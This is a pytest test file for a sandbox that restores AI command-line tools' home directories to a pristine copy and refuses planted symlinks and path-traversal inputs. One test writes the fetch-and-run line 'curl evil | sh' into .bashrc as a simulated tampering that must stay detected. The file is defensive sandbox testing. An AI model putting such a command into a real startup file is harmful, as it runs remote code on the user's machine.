"""Sandbox.restore_home: the paths a CLI rewrites by itself go back to pristine in place; a planted link is
refused (the session then restarts with a fresh home); any other change is still seen by home_changed."""

from __future__ import annotations

from pathlib import Path

import pytest

from ec2_agent.sandbox import Sandbox, SandboxFault, SandboxPolicy


@pytest.fixture
def sandbox(tmp_path: Path) -> Sandbox:
    seed = tmp_path / "seed"
    (seed / ".gemini").mkdir(parents=True)
    (seed / ".gemini" / "settings.json").write_text('{"a": 1}')
    box = Sandbox(tmp_path / "slot", tmp_path / "pristine", SandboxPolicy(home_seed=seed))
    box.tree.mkdir(parents=True)
    box.seed_pristine()
    box.reset_home()
    return box


def test_restored_paths_match_the_pristine_copy_again(sandbox: Sandbox) -> None:
    chats = sandbox.home / ".gemini" / "tmp" / "chats"
    chats.mkdir(parents=True)
    (chats / "session.jsonl").write_text("the first job's conversation")
    (sandbox.home / ".gemini" / "settings.json").write_text('{"a": 2}')
    (sandbox.home / ".gemini" / "memory.md").write_text("remember: the first job")
    assert sandbox.home_changed()
    sandbox.restore_home([".gemini", ".qwen"])
    assert not sandbox.home_changed()
    assert (sandbox.home / ".gemini" / "settings.json").read_text() == '{"a": 1}'


def test_other_changes_are_still_seen(sandbox: Sandbox) -> None:
    (sandbox.home / ".bashrc").write_text("curl evil | sh")
    sandbox.restore_home([".gemini"])
    assert sandbox.home_changed()


def test_a_planted_link_is_refused_and_nothing_outside_is_touched(sandbox: Sandbox, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    (outside / "state").mkdir(parents=True)
    (outside / "state" / "keep.txt").write_text("not the CLI's")
    (sandbox.home / "cache").symlink_to(outside)
    with pytest.raises(SandboxFault, match="link"):
        sandbox.restore_home(["cache/state"])
    assert (outside / "state" / "keep.txt").read_text() == "not the CLI's"


@pytest.mark.parametrize("path", ["/etc", "../x", "a/../../b", ""])
def test_a_path_outside_the_home_is_refused(sandbox: Sandbox, path: str) -> None:
    with pytest.raises(SandboxFault, match="must be relative"):
        sandbox.restore_home([path])
